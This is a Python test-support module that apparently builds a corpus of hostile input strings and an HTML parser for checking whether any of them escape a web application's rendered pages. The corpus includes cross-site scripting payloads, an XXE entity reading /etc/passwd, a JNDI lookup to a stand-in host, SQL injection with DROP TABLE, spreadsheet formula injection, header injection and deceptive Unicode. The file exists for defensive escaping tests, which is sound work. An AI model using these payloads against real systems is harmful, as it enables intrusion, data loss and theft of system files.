"""Texts that want out of their place, and a reader that sees whether one got out.

A hundred in `make check`, seven hundred in `make soak`.
"""

import itertools
import os
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import urlsplit

from steward.web.words import visible

TEXTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea></title></style><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u202egnp.exe\u202c\u2066abc\u2069",
    "zero\u200bwidth\u200d\ufeff\u2060joined",
    "bell\x07nul\x00escape\x1b[31mred\x9b",
    "lone \ud800 surrogate",
    "&lt;b&gt;&#60;b&#62;",
    "<!--<b>-->]]><![CDATA[",
    "line\u2028and\u2029paragraph",
    "tag\U000e0041\U000e0042 variation\ufe0f",
    "x" * 5000,
)
MANY: Final = 700 if os.environ.get("STEWARD_SOAK") else 100  # noqa: TID251 -- as in conftest
MORE: Final = (
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</content></entry></feed>",
    "]]></description>",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r\nSet-Cookie: a=b",
    "%0d%0aX-Header: 1",
    "%252e%252e%252f",
    "\x1b]0;title\x07\x1b[2J",
    "\x9b31m",
    "\x00",
    "\ufffe\uffff",
    "\u0430nna",  # Cyrillic a
    "\u202ba\u202a\u202db",
    "\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
    "\ud83d",
    "\u3164\u115f\ue000\u034f\ufe0f",
    "${jndi:ldap://elsewhere.example/a}",
    "' OR 1=1 --",
    '"; DROP TABLE project; --',
    "[x](javascript:alert(1))",
    "vbscript:msgbox(1)",
    "//elsewhere.example/",
    "https://elsewhere.example/\u202e?<>&\"'",
    "\\u003cscript\\u003e",
    "é" * 3000,
    "",
    " ",
)
AROUND: Final = ("{}", '">{}', "{}</p>", "'{}'", "a{}b", "{0}{0}", "\u200b{}", "<b>{}")


def corpus(many: int) -> tuple[str, ...]:
    """Return so many different texts, the plain ones first."""
    base = (*TEXTS, *MORE)
    every = (around.replace("{}", text).replace("{0}", text) for around in AROUND for text in base)
    wrapped: Iterator[str] = itertools.chain(every, _pairs(base))
    return tuple(itertools.islice(dict.fromkeys(wrapped), many))


def _pairs(base: Sequence[str]) -> Iterator[str]:
    return (a[:200] + b[:200] for a in base for b in base if a != b)


SCHEMES = frozenset({"", "http", "https", "mailto"})
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href"})


class Outline(HTMLParser):
    """The elements of a page with the names of their attributes, and every address in it."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, ...]] = []
        self.addresses: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.elements.append((tag, *(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in _ADDRESSES]

    def handle_comment(self, data: str) -> None:
        """Note a comment; pages have none."""
        self.elements.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        """Note the document type."""
        self.elements.append(("declaration", decl))

    def unknown_decl(self, data: str) -> None:
        """Note what should not be there."""
        self.elements.append(("declaration", data))


def foreign_schemes(outline: Outline) -> set[str]:
    """Return the schemes of addresses that may not leave a page."""
    return {urlsplit(address.strip()).scheme for address in outline.addresses} - SCHEMES


def unseen(page: str) -> set[str]:
    """Return the characters of a page that nobody sees."""
    return {each for each in set(page) if visible(each) != each and each != "\r"}


def strings(value: Any) -> Iterator[str]:  # noqa: ANN401 -- any tree of plain values
    """Yield every text in a tree of plain values."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, each in value.items():
            yield from strings(key)
            yield from strings(each)
    elif isinstance(value, list):
        for each in value:
            yield from strings(each)


ACTIVE: Final = frozenset(
    {"iframe", "img", "math", "style", "b", "object", "embed", "base", "comment"}
)


def escaped(page: str) -> list[str]:
    """Return what of a page no text of a stranger may bring about, in words."""
    outline = Outline(page)
    tags = {element[0] for element in outline.elements}
    handlers = {name for each in outline.elements for name in each[1:] if name[:2] == "on"}
    inline = [each for each in outline.elements if each[0] == "script" and "src" not in each]
    return [
        *(str(each) for each in inline),
        *(f"<{tag}>" for tag in sorted(tags & ACTIVE)),
        *sorted(handlers),
        *sorted(foreign_schemes(outline)),
        *map(ascii, sorted(unseen(page))),
    ]
